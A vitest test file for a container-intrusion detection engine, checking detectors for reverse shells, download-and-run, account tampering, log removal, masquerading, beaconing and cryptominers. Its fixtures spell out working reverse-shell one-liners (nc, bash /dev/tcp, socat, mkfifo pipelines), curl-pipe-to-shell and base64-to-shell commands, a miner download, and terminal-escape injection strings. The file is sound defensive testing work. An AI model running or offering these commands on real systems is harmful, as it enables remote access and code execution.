import { describe, expect, it } from 'vitest';
import { runDetectors } from '../../../electron/engine/detect/run-detectors.js';
import {
  BASE64_TO_SHELL,
  DOWNLOAD_AND_RUN,
  REVERSE_SHELL_PATTERNS,
} from '../../../electron/engine/detect/lib/commands.js';
import type { Finding } from '@shared/domain/finding.js';
import type { EngineEvidence } from '@shared/domain/evidence-set.js';
import type { NetworkSnapshot } from '@shared/domain/network.js';
import { container, engine, hostProcs, sha } from './fixtures.js';

const run = (ev: EngineEvidence, detector: string, policy = {}): Finding[] =>
  runDetectors(ev, { only: [detector], policy }).findings;
const snap = (containerId: string, at: string, sockets: Array<Record<string, unknown>>): NetworkSnapshot => ({
  containerId,
  source: 'host:/proc/1/net',
  collectedAt: at,
  sockets: sockets.map((s, i) => ({
    protocol: 'tcp',
    localAddress: '172.17.0.2',
    localPort: 40000 + i,
    remoteAddress: '0.0.0.0',
    remotePort: 0,
    state: 'ESTABLISHED',
    inode: 100 + i,
    ...s,
  })),
});

describe('command patterns', () => {
  it('recognise download-and-run, base64 and reverse shells, and not their everyday look-alikes', () => {
    for (const bad of [
      'curl -fsSL http://x/i.sh | sh',
      'wget -q -O- http://x | bash',
      'wget http://x/a -O /tmp/a; chmod +x /tmp/a',
      'curl http://x/p.py | python3',
    ])
      expect(DOWNLOAD_AND_RUN.test(bad), bad).toBe(true);
    for (const ok of [
      'curl -fsSL http://x/health',
      'wget -O /tmp/archive.tgz http://x/a.tgz',
      'apt-get install -y curl && rm -rf /var/lib/apt/lists/*',
    ])
      expect(DOWNLOAD_AND_RUN.test(ok), ok).toBe(false);
    expect(BASE64_TO_SHELL.test('echo aGk= | base64 -d | sh')).toBe(true);
    expect(BASE64_TO_SHELL.test('base64 -d cert.b64 > cert.pem')).toBe(false);
    const rs = (s: string) => REVERSE_SHELL_PATTERNS.some(([re]) => re.test(s));
    for (const bad of [
      'nc 10.0.0.1 4444 -e /bin/sh',
      'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
      'socat tcp:1.2.3.4:80 exec:/bin/sh',
      'ncat --exec /bin/sh 1.2.3.4 9',
      'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 1.2.3.4 80 > /tmp/f',
      'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 1.2.3.4 80 >/tmp/f',
      'mkfifo /tmp/p; nc 1.2.3.4 4444 < /tmp/p | /bin/bash > /tmp/p 2>&1',
      'sh -i 2>&1 | nc 10.0.0.1 4444',
      'nc -l -p 4446 | sh',
      'nc 10.0.0.1 1 | /bin/bash 2>&1 | nc 10.0.0.1 2',
      'telnet 10.0.0.1 23 | sh -i',
      'socat tcp:1.2.3.4:80 system:sh',
    ])
      expect(rs(bad), bad).toBe(true);
    for (const ok of [
      'nc -z db 5432',
      'nc -l -p 8080',
      'socat TCP-LISTEN:80,fork TCP:app:8080',
      'python3 -m http.server',
      'while :; do date; sleep 5; done | nc metrics 2003',
      'sh -c "ls | grep x"',
      'nc -z db 5432 && sh start.sh',
      'mkfifo /tmp/f; nc -l -p 9000 < /tmp/f | nc 127.0.0.1 8080 > /tmp/f',
    ])
      expect(rs(ok), ok).toBe(false);
  });
});

describe('configuration detectors', () => {
  it('grade mounts: engine socket critical even read-only, read-only log dir medium, data dir silent', () => {
    const c = container({
      mounts: [
        { type: 'bind', source: '/var/run/docker.sock', destination: '/var/run/docker.sock', readOnly: true },
        { type: 'bind', source: '/var/log', destination: '/host/log', readOnly: true },
        { type: 'bind', source: '/srv/app-data', destination: '/data', readOnly: false },
        { type: 'volume', source: '/var/lib/docker/volumes/x/_data', destination: '/v', readOnly: false },
      ],
    });
    expect(run(engine([c]), 'sensitive-host-mount').map((f) => f.severity)).toEqual(['critical', 'medium']);
  });

  it('runtime-hardening: shared propagation and mapped disks are graded; a stopped container is not judged', () => {
    const c = container(
      {
        devices: ['/dev/sda:/dev/sda'],
        runtime: {
          memoryBytes: 1,
          nanoCpus: 1,
          pidsLimit: 10,
          healthcheck: true,
          propagation: [{ destination: '/data', mode: 'rshared' }],
        },
        readonlyRootfs: true,
        securityOpt: ['no-new-privileges:true'],
        networkMode: 'none',
      },
      { processes: hostProcs('x', [{ comm: 'sshd', exe: '/usr/sbin/sshd', cmdline: 'sshd -D' }]) },
    );
    const stopped = container({ state: 'exited', runtime: {} });
    const f = run(engine([c, stopped]), 'runtime-hardening');
    expect(f.map((x) => [x.cause, x.severity]).sort()).toEqual([
      ['cis-5.18', 'high'],
      ['cis-5.20', 'medium'],
      ['cis-5.7', 'medium'],
    ]);
  });

  it('judge logging against siblings', () => {
    expect(run(engine([container({ logDriver: 'none' }), container()]), 'logging-disabled')[0]?.severity).toBe(
      'medium',
    );
    expect(run(engine([container({ logDriver: 'none' })]), 'logging-disabled')[0]?.severity).toBe('low');
  });

  it('report a shell override only with a payload or with host-level access', () => {
    const risky = container({ cmd: ['sh', '-c', 'echo hi; sleep 1d'], privileged: true });
    const plain = container({ cmd: ['sh', '-c', 'echo hi; exec httpd -f'] });
    const b64 = container({ cmd: ['sh', '-c', 'echo ZWNobyBoaQ== | base64 -d | sh'] });
    const f = run(engine([risky, plain, b64]), 'command-override');
    expect(f.map((x) => [x.container?.id, x.severity])).toEqual([
      [b64.container.id, 'high'],
      [risky.container.id, 'medium'],
    ]);
  });
});

describe('file detectors', () => {
  const file = (path: string, text: string, drift = true) => ({
    path,
    sha256: sha(text),
    size: text.length,
    text,
    imageSha256: drift ? sha(`image:${path}`) : sha(text),
  });

  it('account-tampering: second uid 0 critical, empty root password critical, image accounts silent', () => {
    const bad = container(
      {},
      {
        fileContents: [
          file('/etc/passwd', 'root:x:0:0::/root:/bin/sh\nadmin:x:0:0::/:/bin/sh\n'),
          file('/etc/shadow', 'root::1:0:::::\n'),
        ],
      },
    );
    const ok = container(
      {},
      {
        fileContents: [
          file('/etc/passwd', 'root:x:0:0::/root:/bin/sh\n', false),
          file('/etc/shadow', 'root:*:1:0:::::\n', false),
        ],
      },
    );
    const f = run(engine([bad, ok]), 'account-tampering');
    expect(f.filter((x) => x.container?.id === ok.container.id)).toEqual([]);
    expect(f.filter((x) => x.severity === 'critical').map((x) => x.evidence[0]!.sha256)).toHaveLength(2);
  });

  it("account-tampering: a login account added with root's group or home is medium; app users and system accounts stay low", () => {
    const passwd = [
      'root:x:0:0::/root:/bin/sh',
      'operator:x:11:0:operator:/root:/sbin/nologin',
      'backup2:x:1001:0::/home/backup2:/bin/sh',
      'svc:x:1002:1002::/root:/bin/bash',
      'app:x:1000:1000::/home/app:/bin/sh',
    ].join('\n');
    const f = run(engine([container({}, { fileContents: [file('/etc/passwd', passwd)] })]), 'account-tampering');
    expect(f.filter((x) => x.severity === 'medium').map((x) => x.summary.split(' ')[1])).toEqual(['backup2', 'svc']);
    expect(f.filter((x) => x.severity === 'low')).toHaveLength(1);
    const shipped = run(
      engine([container({}, { fileContents: [file('/etc/passwd', passwd, false)] })]),
      'account-tampering',
    );
    expect(shipped).toEqual([]);
  });

  it('sudoers: runtime NOPASSWD high, the same rule shipped in the image medium', () => {
    const rule = 'dev ALL=(ALL) NOPASSWD: ALL\n';
    const f = run(
      engine([
        container({}, { fileContents: [file('/etc/sudoers.d/dev', rule)] }),
        container({}, { fileContents: [file('/etc/sudoers.d/dev', rule, false)] }),
      ]),
      'sudoers-nopasswd',
    );
    expect(f.map((x) => x.severity)).toEqual(['high', 'medium']);
  });

  it('ld-preload: allocator preload medium, preload from a scratch dir critical', () => {
    const c = container(
      {},
      {
        processes: hostProcs('x', [
          { comm: 'app', env: { LD_PRELOAD: '/usr/lib/libjemalloc.so.2' } },
          { comm: 'app2', env: { LD_PRELOAD: '/dev/shm/.l/h.so' } },
        ]),
      },
    );
    expect(run(engine([c]), 'ld-preload').map((f) => f.severity)).toEqual(['critical', 'medium']);
  });

  it('immutable-files: flags from the diff and removal of chattr', () => {
    const c = container(
      {},
      {
        files: [
          { path: '/etc/ld.so.preload', kind: 'added', flags: ['immutable'] },
          { path: '/usr/bin/chattr', kind: 'deleted', flags: [] },
          { path: '/app/x', kind: 'added', flags: [] },
        ],
      },
    );
    expect(run(engine([c]), 'immutable-files').map((f) => [f.severity, f.evidence[0]!.ref])).toEqual([
      ['high', '/etc/ld.so.preload'],
      ['medium', '/usr/bin/chattr'],
    ]);
  });

  it('hidden-files: executable in a dot-dir high, tool caches ignored, dots-only names high', () => {
    const c = container(
      {},
      {
        files: [
          { path: '/tmp/.npm/_cacache/x', kind: 'added', flags: [] },
          { path: '/tmp/.X11-unix/X0', kind: 'added', flags: [] },
          { path: '/dev/shm/.s/miner', kind: 'added', flags: ['elf', 'executable'] },
          { path: '/usr/share/.../k', kind: 'added', flags: [] },
          { path: '/home/app/.config/x', kind: 'added', flags: [] },
        ],
      },
    );
    expect(
      run(engine([c]), 'hidden-files')
        .map((f) => [f.severity, f.evidence[0]!.ref])
        .sort(),
    ).toEqual([
      ['high', '/dev/shm/.s/miner'],
      ['high', '/usr/share/.../k'],
    ]);
  });
});

describe('indicator-removal', () => {
  it('groups removed logs per cause; rotation with a sibling, growth and API-only changes are quiet', () => {
    const c = container(
      {},
      {
        files: [
          { path: '/var/log/wtmp', kind: 'deleted' },
          { path: '/var/log/app.log', kind: 'changed', size: 0, imageSize: 900 },
          { path: '/var/log/app.log.1', kind: 'added', size: 900 },
          { path: '/var/log/nginx/error.log', kind: 'changed', size: 10, imageSize: 400 },
          { path: '/var/log/dpkg.log', kind: 'changed', size: 500, imageSize: 400 },
          { path: '/var/log/other.log', kind: 'changed' },
          { path: '/root/.bash_history', kind: 'changed', size: 0, imageSize: 120 },
          { path: '/etc/hosts', kind: 'deleted' },
        ],
      },
    );
    const hits = run(engine([c]), 'indicator-removal');
    expect(hits.map((f) => [f.severity, f.attack.join(), f.evidence.map((e) => e.ref).join()]).sort()).toEqual([
      ['high', 'T1070.002', '/var/log/wtmp'],
      ['high', 'T1070.003', '/root/.bash_history'],
      ['medium', 'T1070.002', '/var/log/nginx/error.log'],
    ]);
  });
});

describe('process detectors', () => {
  it('suspicious-exe-location: memfd critical; masquerading: daemon name on a foreign binary, not interpreters', () => {
    const c = container(
      {},
      {
        processes: hostProcs('x', [
          { comm: 'x', exe: '/memfd: (deleted)', cmdline: 'x' },
          { comm: 'sshd', exe: '/tmp/.x/xmrig', cmdline: 'sshd: root' },
          { comm: 'nginx', exe: '/usr/sbin/nginx', cmdline: 'nginx: worker process' },
          { comm: 'gunicorn', exe: '/usr/bin/python3.12', cmdline: '/usr/bin/python3 gunicorn' },
          { comm: 'sh', exe: '/bin/busybox', cmdline: '[kthreadd]' },
        ]),
      },
    );
    const ev = engine([c]);
    expect(run(ev, 'suspicious-exe-location').map((f) => [f.severity, f.attack])).toEqual([
      ['critical', ['T1620']],
      ['high', ['T1036.005']],
    ]);
    expect(run(ev, 'process-masquerading').map((f) => f.severity)).toEqual(['critical', 'high']);
  });

  it('process-masquerading: kernel-thread looks by argv[0] with arguments, bracketed or prctl comm, emptied argv; not daemon titles or applets', () => {
    const c = container(
      {},
      {
        processes: hostProcs('x', [
          { comm: 'x', exe: '/opt/app/bin/agentd', cmdline: '[kworker/u8:2] --pool 127.0.0.1' },
          { comm: '[kworker/1:0]', exe: '/bin/busybox', cmdline: 'sh -c loop' },
          { comm: 'kworker/0:1H', exe: '/opt/app/bin/agentd', cmdline: '' },
          { comm: 'agentd', exe: '/opt/app/bin/agentd', cmdline: '[nvme-reset-wq]' },
          { comm: 'khungtaskd', exe: '/usr/bin/x', cmdline: 'x' },
          { comm: 'postgres', exe: '/usr/lib/postgresql/15/bin/postgres', cmdline: 'postgres: writer process' },
          {
            comm: 'celery',
            exe: '/usr/local/bin/celery',
            cmdline: '[celeryd: celery@w1:MainProcess] -active- (worker)',
          },
          { comm: 'crond', exe: '/bin/busybox', cmdline: 'crond -b' },
          { comm: '[', exe: '/bin/busybox', cmdline: '[ -d / ]' },
          { comm: 'zombie', cmdline: '' },
        ]),
      },
    );
    const hits = run(engine([c]), 'process-masquerading');
    expect(hits.map((f) => [f.severity, f.attack.join()])).toEqual(Array(5).fill(['critical', 'T1036.004']));
    expect(hits.map((f) => f.evidence[0]!.ref).sort()).toEqual([
      'pid 1000',
      'pid 1001',
      'pid 1002',
      'pid 1003',
      'pid 1004',
    ]);
  });

  it("reverse-shell: a shell on a connection is one, an inetd-style server's per-connection child is not", () => {
    const onSocket = (comm: string, cmdline: string) =>
      container(
        {},
        {
          processes: hostProcs('x', [
            { pid: 10, comm: 'httpd', exe: '/bin/busybox', cmdline: 'httpd -f -p 8080' },
            {
              pid: 11,
              ppid: 10,
              comm,
              exe: '/bin/busybox',
              cmdline,
              stdio: ['socket:[700]', 'socket:[700]', '/dev/null'],
            },
          ]),
          sockets: [
            snap('x', '2026-11-23T10:05:00.000Z', [
              { inode: 700, localAddress: '172.17.0.2', localPort: 8080, remoteAddress: '10.0.0.9', remotePort: 51000 },
            ]),
          ],
        },
      );
    expect(run(engine([onSocket('httpd', 'httpd -f -p 8080')]), 'reverse-shell')).toEqual([]);
    const shell = run(engine([onSocket('sh', 'sh')]), 'reverse-shell');
    expect(shell.map((f) => [f.severity, f.attack.join()])).toEqual([['critical', 'T1059.004,T1095']]);
    expect(shell[0]!.summary).toContain('connected to 10.0.0.9:51000');
  });

  it('shell-pipeline: follows pipes and named pipes from the network holder to the shell; shared writers and data readers are not joined', () => {
    const sock = (inode: number, over: Record<string, unknown> = {}) => ({
      inode,
      localPort: 40000 + inode,
      remoteAddress: '10.0.0.9',
      remotePort: 4444,
      ...over,
    });
    const log = 'pipe:[1]';
    const c = container(
      {},
      {
        processes: hostProcs('x', [
          {
            pid: 10,
            comm: 'nc',
            exe: '/bin/busybox',
            cmdline: 'nc 10.0.0.9 4444',
            stdio: ['pipe:[20]', '/tmp/f', log],
            socketInodes: [501],
          },
          {
            pid: 11,
            comm: 'cat',
            exe: '/bin/busybox',
            cmdline: 'cat /tmp/f',
            stdio: ['/dev/null', 'pipe:[21]', log],
            fdPaths: ['/tmp/f'],
          },
          {
            pid: 12,
            comm: 'sh',
            exe: '/bin/busybox',
            cmdline: 'sh -i',
            stdio: ['pipe:[21]', 'pipe:[20]', 'pipe:[20]'],
          },
          // A dev server and the shell loop that reads its log lines as data; both write to the engine's log pipe.
          {
            pid: 20,
            comm: 'node',
            exe: '/usr/bin/node',
            cmdline: 'node server.js',
            stdio: ['/dev/null', 'pipe:[30]', log],
            socketInodes: [502],
          },
          {
            pid: 21,
            comm: 'sh',
            exe: '/bin/bash',
            cmdline: 'sh -c while read l; do echo $l; done',
            stdio: ['pipe:[30]', log, log],
          },
          // A metrics loop pushing to nc: output only, no commands back.
          {
            pid: 30,
            comm: 'sh',
            exe: '/bin/dash',
            cmdline: 'sh -c while :; do date; sleep 5; done',
            stdio: ['/dev/null', 'pipe:[40]', log],
          },
          {
            pid: 31,
            comm: 'nc',
            exe: '/usr/bin/nc',
            cmdline: 'nc metrics 2003',
            stdio: ['pipe:[40]', log, log],
            socketInodes: [503],
          },
          // syslogd's stdin is its /dev/log unix socket: no network shell.
          {
            pid: 40,
            comm: 'syslogd',
            exe: '/bin/busybox',
            cmdline: 'syslogd',
            stdio: ['socket:[600]', '/dev/null', '/dev/null'],
          },
        ]),
        sockets: [
          snap('x', '2026-11-23T10:05:00.000Z', [
            sock(501),
            sock(502, { state: 'LISTEN', remoteAddress: '0.0.0.0', remotePort: 0, localPort: 3000 }),
            sock(503, { remotePort: 2003 }),
            { protocol: 'unix', inode: 600, localAddress: '/dev/log', localPort: 0 },
          ]),
        ],
      },
    );
    const hits = run(engine([c]), 'shell-pipeline');
    expect(hits.map((f) => [f.severity, f.summary.replace(/ in c\d+/, '')])).toEqual([
      [
        'critical',
        'Shell sh -i (pid 12) reads its commands from nc connected to 10.0.0.9:4444, through pipes nc(10) → cat(11) → sh(12), and its output goes back through sh(12) → nc(10).',
      ],
      [
        'low',
        'Shell script sh -c while :; do date; sleep 5; done (pid 30) pipes its output to nc connected to 10.0.0.9:2003 (dash(30) → nc(31)); it reads no commands from the network.',
      ],
    ]);
    expect(run(engine([c]), 'reverse-shell')).toEqual([]);
  });

  it('hidden-processes: host-only PIDs, ignoring processes that started after the in-container read', () => {
    const host = hostProcs('x', [
      { pid: 10, nsPid: 1 },
      { pid: 11, nsPid: 7, comm: 'implant' },
      { pid: 12, nsPid: 9, startTime: '2026-11-23T10:06:00.000Z' },
    ]);
    const inside = {
      containerId: 'x',
      view: 'container' as const,
      source: 'host:/proc/10/root/proc',
      collectedAt: '2026-11-23T10:05:00.000Z',
      processes: [{ pid: 1, ppid: 0, user: 'root', comm: 'sh', cmdline: 'sh' }],
    };
    const f = run(engine([container({}, { processes: { ...host, container: inside } })]), 'hidden-processes');
    expect(f.map((x) => x.summary)).toEqual([expect.stringContaining('implant')]);
  });
});

describe('network detectors', () => {
  it('outbound: public non-standard port high, private medium, standard and loopback silent', () => {
    const c = container(
      {},
      {
        sockets: [
          snap('x', '2026-11-23T10:05:00Z', [
            { remoteAddress: '203.0.113.9', remotePort: 4444 },
            { remoteAddress: '10.1.2.3', remotePort: 5432 },
            { remoteAddress: '203.0.113.9', remotePort: 443 },
            { remoteAddress: '127.0.0.1', remotePort: 9999 },
          ]),
        ],
      },
    );
    expect(
      run(engine([c]), 'outbound-nonstandard-port').map((f) => [f.severity, f.summary.includes('external')]),
    ).toEqual([
      ['high', true],
      ['medium', false],
    ]);
    expect(run(engine([c]), 'outbound-nonstandard-port', { standardPorts: [443, 4444, 5432] })).toEqual([]);
  });

  it('inter-container: flagged only when no network is shared, following container: network mode', () => {
    const net = (id: string, ip: string) => ({ name: id, networkId: id, ipAddress: ip });
    const target = container({ networks: [net('backend', '172.20.0.2')] });
    const sameNet = container(
      { networks: [net('backend', '172.20.0.3')] },
      { sockets: [snap('x', '2026-11-23T10:05:00Z', [{ remoteAddress: '172.20.0.2', remotePort: 5432 }])] },
    );
    const other = container(
      { networks: [net('frontend', '172.21.0.2')] },
      { sockets: [snap('x', '2026-11-23T10:05:00Z', [{ remoteAddress: '172.20.0.2', remotePort: 5432 }])] },
    );
    const sidecar = container(
      { networkMode: `container:${sameNet.container.id}` },
      { sockets: [snap('x', '2026-11-23T10:05:00Z', [{ remoteAddress: '172.20.0.2', remotePort: 5432 }])] },
    );
    const f = run(engine([target, sameNet, other, sidecar]), 'inter-container-connection');
    expect(f.map((x) => x.container?.id)).toEqual([other.container.id]);
  });

  it('beaconing: steady new connections are flagged, jittered ones and one long session are not', () => {
    const series = (gaps: number[], newPortEachTime: boolean) => {
      let t = Date.parse('2026-11-23T10:00:00Z');
      return gaps.map((g, i) => {
        t += g * 1000;
        return snap('x', new Date(t).toISOString(), [
          { remoteAddress: '198.51.100.7', remotePort: 443, localPort: newPortEachTime ? 50000 + i : 50000 },
        ]);
      });
    };
    const steady = container({}, { sockets: series([30, 30, 31, 29, 30, 30], true) });
    const jitter = container({}, { sockets: series([5, 60, 12, 90, 3, 40], true) });
    const session = container({}, { sockets: series([30, 30, 30, 30, 30, 30], false) });
    const f = run(engine([steady, jitter, session]), 'beaconing');
    expect(f.map((x) => [x.container?.id, x.severity])).toEqual([[steady.container.id, 'medium']]);
    expect(f[0]!.summary).toMatch(/about every 30 s/);
    // A beacon slower than the polling: one new connection every fourth snapshot.
    let t = Date.parse('2026-11-23T10:00:00Z');
    const sparse = Array.from({ length: 17 }, (_, i) => {
      t += 15_000;
      return snap('x', new Date(t).toISOString(), [
        { remoteAddress: '198.51.100.8', remotePort: 8443, localPort: 50000 + Math.floor(i / 4) },
      ]);
    });
    const g = run(engine([container({}, { sockets: sparse })]), 'beaconing');
    expect(g.map((x) => x.summary)).toEqual([expect.stringMatching(/about every 60 s/)]);
  });
});

describe('lifecycle and image detectors', () => {
  const stats = (cpus: number[]) =>
    cpus.map((cpuPercent, i) => ({
      at: `2026-11-23T10:00:0${i}Z`,
      cpuPercent,
      memoryBytes: 1,
      pids: 1,
      netRxBytes: 0,
      netTxBytes: 0,
    }));
  it('beaconing: one snapshot of TIME_WAIT rows dates the closes; a declared service is low, an irregular client silent', () => {
    const at = '2026-11-23T10:05:00.000Z';
    // Closed 2 s apart (timers 50, 52, 54, 56 s left), to an undeclared internal endpoint on 443.
    const tw = (left: number[], remoteAddress: string, remotePort: number) =>
      left.map((s, i) => ({
        remoteAddress,
        remotePort,
        localPort: 41000 + remotePort + i,
        state: 'TIME_WAIT',
        timeWaitLeftMs: s * 1000,
      }));
    const beacon = container({}, { sockets: [snap('x', at, tw([50, 52, 54, 56], '172.18.0.5', 443))] });
    const poller = container({}, { sockets: [snap('x', at, tw([50, 52, 54, 56], '172.18.0.9', 8080))] });
    const web = container({
      networks: [{ name: 'n', ipAddress: '172.18.0.9', networkId: 'n' }],
      exposedPorts: ['8080/tcp'],
    });
    const irregular = container({}, { sockets: [snap('x', at, tw([20, 21, 28, 30, 39, 40], '172.18.0.5', 443))] });
    const f = run(engine([beacon, poller, web, irregular]), 'beaconing');
    expect(f.map((x) => [x.container?.id, x.severity]).sort()).toEqual(
      [
        [beacon.container.id, 'medium'],
        [poller.container.id, 'low'],
      ].sort(),
    );
    expect(f.find((x) => x.container?.id === beacon.container.id)!.summary).toMatch(
      /4 connections to 172\.18\.0\.5:443, an internal endpoint no container here declares, about every 2\.0 s \(jitter 0 %, 1 snapshot\)/,
    );
  });

  it('resource-hijack: spike vs own baseline low, always-busy silent, miner with spike critical', () => {
    const spike = container({}, { stats: stats([3, 4, 95, 97, 96, 98]) });
    const busy = container({}, { stats: stats([95, 96, 97, 95, 96, 98]) });
    const miner = container(
      {},
      {
        stats: stats([3, 2, 99, 99, 98, 99]),
        processes: hostProcs('x', [
          { comm: 'kswapd0', cmdline: './kswapd0 -o pool.example:3333 --coin monero stratum+tcp://pool.example:3333' },
        ]),
      },
    );
    const f = run(engine([spike, busy, miner]), 'resource-hijack');
    expect(f.map((x) => [x.container?.id, x.severity])).toEqual([
      [miner.container.id, 'critical'],
      [spike.container.id, 'low'],
    ]);
  });

  it('short-lived: create to destroy within the policy window only', () => {
    const ev = (id: string, action: string, t: number) => ({
      engineId: 'local',
      time: new Date(t).toISOString(),
      timeNano: t * 1e6,
      type: 'container',
      action,
      actorId: id,
      attributes: { name: `n-${id.slice(0, 4)}`, image: 'alpine' },
    });
    const t0 = Date.parse('2026-11-23T10:00:00Z');
    const quick = sha('quick');
    const slow = sha('slow');
    const events = [
      ev(quick, 'create', t0),
      ev(quick, 'start', t0 + 200),
      ev(quick, 'die', t0 + 900),
      ev(quick, 'destroy', t0 + 1000),
      ev(slow, 'create', t0),
      ev(slow, 'destroy', t0 + 120_000),
    ];
    const f = run(engine([], { events }), 'short-lived-container');
    expect(f.map((x) => x.container?.id)).toEqual([quick]);
    expect(run(engine([], { events }), 'short-lived-container', { shortLivedSeconds: 300 })).toHaveLength(2);
  });

  it('exec-into-container: graded by command, terminal and privilege', () => {
    const c = container();
    const x = (execId: string, command: string, o: Record<string, unknown> = {}) => ({
      execId,
      containerId: c.container.id,
      time: '2026-11-23T10:01:00Z',
      command,
      ...o,
    });
    const f = run(
      engine([c], {
        execs: [
          x('a', 'cat /etc/os-release'),
          x('b', 'bash', { tty: true }),
          x('c', 'sh -c curl http://x/a.sh | sh'),
          x('d', 'nsenter -t 1 -m sh', { privileged: true }),
        ],
      }),
      'exec-into-container',
    );
    expect(Object.fromEntries(f.map((y) => [y.evidence[0]!.ref, y.severity]))).toEqual({
      a: 'low',
      b: 'medium',
      c: 'high',
      d: 'critical',
    });
    // A health check repeated every few seconds is one finding with a count.
    const probes = ['p1', 'p2', 'p3'].map((id, i) => ({
      ...x(id, 'curl -fs http://localhost/health'),
      time: `2026-11-23T10:0${i}:00Z`,
    }));
    const g = run(engine([c], { execs: probes }), 'exec-into-container');
    expect(g.map((y) => [y.severity, y.evidence.length])).toEqual([['low', 3]]);
    expect(g[0]!.summary).toContain('3 times between 2026-11-23T10:00:00Z and 2026-11-23T10:02:00Z');
  });

  it('image-tampering judges an image once and lists the containers that run it', () => {
    const imageId = 'sha256:' + sha('imported');
    const users = [1, 2, 3].map(() => container({ imageId, image: 'local/app:dev' }));
    const ev = engine(users, {
      images: [
        {
          id: imageId,
          repoTags: ['local/app:dev'],
          repoDigests: [],
          created: '2026-11-01T00:00:00Z',
          cmd: [],
          entrypoint: [],
          exposedPorts: [],
          env: [],
          history: [],
        },
      ],
    });
    const f = run(ev, 'image-tampering');
    expect(f.map((x) => [x.severity, x.container])).toEqual([['low', undefined]]);
    expect(f[0]!.summary).toContain('runs 3 containers');
    expect(
      f[0]!.evidence
        .filter((e) => e.kind === 'inspect')
        .map((e) => e.ref)
        .sort(),
    ).toEqual(users.map((u) => `${u.container.id.slice(0, 12)}:Image`).sort());
  });

  it('image-tampering: a tag moved under a running container, and build history that installs a miner', () => {
    const c = container({ image: 'shop:latest', imageId: 'sha256:' + sha('old') });
    const ev = engine([c], {
      images: [
        {
          id: 'sha256:' + sha('old'),
          repoTags: [],
          repoDigests: ['shop@sha256:' + sha('d')],
          created: '',
          cmd: [],
          entrypoint: [],
          exposedPorts: [],
          env: [],
          history: [{ created: '', createdBy: '/bin/sh -c curl -L http://x/xmrig -o /usr/bin/xmrig' }],
        },
        {
          id: 'sha256:' + sha('new'),
          repoTags: ['shop:latest'],
          repoDigests: [],
          created: '',
          cmd: [],
          entrypoint: [],
          exposedPorts: [],
          env: [],
          history: [],
        },
      ],
    });
    expect(
      run(ev, 'image-tampering')
        .map((f) => f.severity)
        .sort(),
    ).toEqual(['high', 'medium']);
  });
});

describe('image-tampering: containers started from a committed image', () => {
  it('reports each container that runs what a commit produced, naming the source container', () => {
    const committedId = 'sha256:' + sha('committed');
    const src = container({ name: 'web-1' });
    const after = container({ name: 'web-2', image: 'shop:1', imageId: committedId });
    const unrelated = container({ name: 'db' });
    const ev = engine([src, after, unrelated], {
      events: [
        {
          engineId: 'local',
          time: '2026-11-23T10:04:00.000Z',
          type: 'container',
          action: 'commit',
          actorId: src.container.id,
          attributes: { name: 'web-1', imageID: committedId, imageRef: 'shop:1' },
        },
      ],
    });
    const f = runDetectors(ev, { only: ['image-tampering'] }).findings.filter(
      (x) => x.cause === 'runs-committed-image',
    );
    expect(f.map((x) => [x.container?.name, x.severity])).toEqual([['web-2', 'high']]);
    expect(f[0]!.summary).toContain('committed from container web-1');
    expect(f[0]!.attack).toEqual(['T1525', 'T1610']);
  });
});

describe('shadow-container', () => {
  it('flags kubelet-style names without pod labels anywhere, and unlabelled containers only on a Kubernetes node', () => {
    const pod = (n: number) =>
      container({ name: `k8s_app_web-${n}_default_uid${n}_0`, labels: { 'io.kubernetes.pod.uid': `uid${n}` } });
    const fake = container({ name: 'k8s_kube-proxy_kube-proxy-x1_kube-system_abc_0' });
    const loose = container({ name: 'miner' });
    expect(
      run(engine([pod(1), pod(2), fake, loose]), 'shadow-container')
        .map((f) => [f.container?.name, f.severity])
        .sort(),
    ).toEqual([
      [fake.container.name, 'high'],
      ['miner', 'medium'],
    ]);
    expect(run(engine([container({ name: 'plain' }), loose]), 'shadow-container')).toEqual([]);
  });
});

describe('hostile input', () => {
  it('keeps summaries bounded and free of terminal control sequences', () => {
    const evil = `\u001b]0;pwned\u0007\u001b[2J${'A'.repeat(50_000)}`;
    const c = container(
      { name: 'x', privileged: true },
      {
        processes: hostProcs('x', [{ comm: evil, exe: `/tmp/${evil}`, cmdline: `nc 1.2.3.4 4444 -e /bin/sh ${evil}` }]),
      },
    );
    const { findings } = runDetectors(engine([c]));
    expect(findings.length).toBeGreaterThan(2);
    for (const f of findings) {
      expect(f.summary.length).toBeLessThanOrEqual(1024);
      for (const e of f.evidence) expect(e.excerpt.length).toBeLessThanOrEqual(1024);
      expect(f.summary).not.toMatch(/[\u0000-\u001f]/);
    }
  });
});
